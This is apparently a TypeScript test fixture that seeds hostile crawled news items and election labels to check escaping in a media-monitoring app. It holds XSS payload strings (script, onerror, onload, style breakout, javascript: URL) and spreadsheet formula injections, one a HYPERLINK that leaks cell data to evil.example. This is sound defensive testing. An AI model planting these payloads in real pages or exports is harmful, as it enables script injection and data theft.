// Crawled text and dictionary labels written by an attacker: script tags, event handlers,
// javascript: URLs, a style breakout and spreadsheet formulas, in every field that is shown.
import { sourceSchema } from '../../src/core/source.ts';
import type { Item, SourceRef } from '../../src/core/types.ts';
import type { Store } from '../../src/core/store.ts';
import { loadElection, type Election } from '../../src/tagging/index.ts';
import { makeItem } from '../helpers/make-item.ts';
import { ELECTION_DIR } from './app-harness.ts';

export const P = {
  script: '<script>window.__xss=1</script>',
  img: '"><img src=x onerror="window.__xss=2">',
  svg: '<svg onload="window.__xss=3"></svg>',
  style: '</style><script>window.__xss=4</script>',
  js: 'javascript:window.__xss=5',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
} as const;

/** Cells a spreadsheet would run as formulas if left alone. */
export const FORMULAS = [P.formula, '+SUM(1,2)', '-2+3*cmd', '@SUM(A1)'];

export const EVIL_SOURCE: SourceRef = {
  id: 'evil_tv',
  name: `Kanal ${P.img}`,
  kind: 'html',
  ownership: 'private',
};

/** The election with a candidate and a party whose labels carry payloads. */
export function hostileElection(): Election {
  const e = loadElection(ELECTION_DIR);
  return {
    ...e,
    entities: e.entities.map((x) =>
      x.id === 'oruc_zahid'
        ? { ...x, name: `Zahid Oruc ${P.svg}${P.script}` }
        : x.id === 'yap'
          ? { ...x, name: `YAP ${P.img}` }
          : x,
    ),
  };
}

export function hostileItems(): Item[] {
  const silence = '2024-02-06T10:00:00.000Z';
  const a = makeItem(
    {
      url: 'https://evil.example/xeber/1',
      title: `Xəbər ${P.script} Zahid Oruc`,
      text: `Zahid Oruc dedi ${P.img} və ${P.svg}. Sonra ${P.style} yazıldı.`,
      source: EVIL_SOURCE,
      publishedAt: silence,
    },
    [['Zahid Oruc', 'oruc_zahid']],
  );
  const b = makeItem(
    {
      url: 'https://evil.example/xeber/2',
      title: P.formula,
      text: `Zahid Oruc haqqında ${P.js} keçid.`,
      source: EVIL_SOURCE,
      publishedAt: '2024-02-06T12:00:00.000Z',
      author: '+SUM(1,2)',
    },
    [['Zahid Oruc', 'oruc_zahid', { sentence: '@SUM(A1)' }]],
  );
  // The stored URL itself is a javascript: link (the id stays that of a real URL).
  return [a, { ...b, url: P.js }];
}

export async function seedHostile(store: Store): Promise<Item[]> {
  await store.upsertSources([
    sourceSchema.parse({
      id: EVIL_SOURCE.id,
      name: EVIL_SOURCE.name,
      kind: 'html',
      ownership: 'private',
      urls: ['https://evil.example/'],
    }),
  ]);
  const items = hostileItems();
  await store.upsertItems(items);
  return items;
}
